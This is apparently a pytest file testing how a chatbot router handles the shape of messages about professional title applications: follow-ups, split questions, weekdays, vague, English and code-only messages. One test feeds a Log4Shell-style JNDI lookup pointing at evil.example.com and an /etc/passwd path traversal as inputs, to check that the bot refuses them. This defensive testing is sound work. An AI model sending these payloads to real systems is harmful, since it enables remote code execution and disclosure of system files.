"""The shape of a message's text (bot.routing.shape) and where it takes the router: follow-ups,
several questions in one, a date's weekday, vague messages, English, code."""
from __future__ import annotations

from dataclasses import replace

import pytest

from bot.router import route
from bot.routing.inputs import Candidate, Context
from bot.routing.shape import (
    asks_when,
    elliptical,
    mostly_english,
    only_code,
    questions_in,
    vague_about_titles,
    weekday_asked,
)
from bot.text import question_part
from tests.routing_cases import PAY


def test_a_long_message_is_classified_on_the_part_that_asks():
    story = "情况是这样，我前年从外地调来北京，现在在一家民营企业做工程师，社保也转过来了。想问我今年能不能报中级？"
    assert question_part(story) == "想问我今年能不能报中级"
    assert question_part("委托函 二级单位") == "委托函 二级单位"


@pytest.mark.parametrize("text, terse", [("那中级呢", True), ("What about 初级?", True), ("在哪交", True),
                                         ("卫生系列的呢？", True), ("单位审核推荐什么时候开始、要做什么", False),
                                         ("过了这个时间还能推荐吗", True), ("Who issues it?", True),
                                         ("OK, so when exactly did it close?", True),
                                         ("which department issues it?", True),
                                         ("When does the online application start?", False)])
def test_follow_ups_are_recognised(text, terse):
    assert elliptical(text) is terse


def test_a_question_pointing_back_with_a_pronoun_is_a_follow_up():
    assert elliptical("要交哪些材料给他们") and elliptical("刚才说的那个表在哪下载")
    assert not elliptical("我同事去年评上了高级，他的论文是抄的，会怎么处理")


def test_a_message_with_two_questions_is_split_into_them():
    assert questions_in("个人申报截止是哪天？单位推荐截止又是哪天？") == ["个人申报截止是哪天", "单位推荐截止又是哪天"]
    assert questions_in("委托函怎么开？") == []  # one question: nothing to split


def test_two_questions_typed_without_question_marks_are_two():
    assert questions_in("个人申报几号截止 单位审核又是几号截止") == ["个人申报几号截止", "单位审核又是几号截止"]
    assert questions_in("委托函 二级") == [] and questions_in("初级要答辩吗 中级呢") == []


@pytest.mark.parametrize("text, date", [("7月23日是星期几", (7, 23)), ("8月30号周几", (8, 30)),
                                        ("7月2日是周二吗", (7, 2))])
def test_the_weekday_of_a_date_is_worked_out(text, date):
    r = route(text, Context(intent="out_of_scope", intent_confidence=0.9), [])
    assert r.kind == "weekday" and r.date == date


def test_a_vague_message_about_titles_gets_a_choice_of_topics_not_a_refusal():
    assert route("我想问一下评职称的事", Context(intent="nlu_fallback", unsure=True), []).kind == "clarify"
    assert route("火星上有职称吗？", Context(intent="out_of_scope", intent_confidence=0.9), []).kind == "cannot_answer"


@pytest.mark.parametrize("text, kind", [("我想问一下评职称的事", "clarify"), ("那告诉我评审专家名单", "cannot_answer")])
def test_only_a_really_vague_message_gets_the_clarifying_question(text, kind):
    assert route(text, Context(intent="inform"), []).kind == kind


def test_an_english_question_is_not_out_of_scope_for_its_english():
    text = "需要 to attend an in-person 答辩 for an intermediate-level 职称?"  # after the glossary
    defense = Candidate("defense_required", 0.71, "哪些级别要答辩？", ("三(一)5第2段",))
    r = route(text, Context(intent="out_of_scope", intent_confidence=0.99, out_of_scope=0.99), [defense])
    assert (r.kind, r.faq_id) == ("faq", "defense_required")
    # a Chinese message the classifier is sure is out of scope stays so
    assert route("今天天气怎么样 答辩", Context(intent="out_of_scope", intent_confidence=0.99, out_of_scope=0.99),
                 [replace(defense, score=0.5)]).kind == "cannot_answer"


@pytest.mark.parametrize("text", ["${jndi:ldap://evil.example.com/a}", "../../../../etc/passwd"])
def test_code_with_no_words_around_it_is_not_answered(text):
    r = route(text, Context(intent="faq_how_to_apply", intent_confidence=0.9), [PAY])
    assert (r.kind, r.reason) == ("cannot_answer", "code, no question")


def test_the_shape_of_a_message_read_on_its_own():
    assert weekday_asked("7月23日是星期几") == (7, 23) and weekday_asked("13月2日是星期几") is None
    assert asks_when("上传时间") and not asks_when("在哪交")
    assert only_code("../../../../etc/passwd") and not only_code("www.bjrbj.gov.cn 上怎么申报")
    assert mostly_english("how to 申报 an 职称 online") and not mostly_english("怎么申报职称")
    assert vague_about_titles("我想问一下评职称的事") and not vague_about_titles("那告诉我评审专家名单")


@pytest.mark.parametrize("text, asks", [("初级工程师是按区报的吧", True), ("央企二级要委托函，对吧", True),
                                        ("好的吧", False), ("算了吧", False), ("我们公司在亦庄", False)])
def test_a_tag_question_is_a_question(text, asks):
    from bot.text import is_question
    assert is_question(text) is asks


@pytest.mark.parametrize("text, about", [("答辩呢", True), ("那答辩的呢？", True), ("what about 答辩?", True),
                                         ("初级要答辩不", False), ("答辩", False), ("他说是人社局委托的", False)])
def test_a_message_that_only_names_a_new_subject(text, about):
    from bot.routing.shape import about_only
    assert about_only(text) is about
